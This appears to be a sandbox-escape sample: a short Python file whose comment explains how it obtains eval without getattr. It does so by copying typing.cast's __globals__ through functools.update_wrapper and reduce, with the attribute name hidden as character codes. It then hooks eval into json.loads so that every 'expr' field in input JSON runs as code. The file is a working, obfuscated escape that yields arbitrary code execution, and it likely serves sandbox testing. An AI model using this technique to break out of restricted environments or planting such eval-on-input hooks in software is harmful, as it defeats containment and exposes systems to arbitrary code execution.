# family: calls
# Escape: json.loads(..., object_pairs_hook=...) calls our lambda, which runs eval taken from
# typing.cast's globals["__builtins__"] (copied out by functools.update_wrapper reached via getattr-free
# functools.reduce); every {"expr": ...} object in the input is evaluated.
import functools
import json
import types
import typing


def tool(document: str):
    g = "".join(map(chr, [95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95]))
    space: dict = {}
    functools.reduce(functools.partial(functools.update_wrapper, assigned=(), updated=(g,)), [typing.cast], types.SimpleNamespace(**{g: space}))
    run = space["builtins".center(12, "_")]["eval"]
    return json.loads(document, object_pairs_hook=lambda pairs: run(dict(pairs)["expr"]))
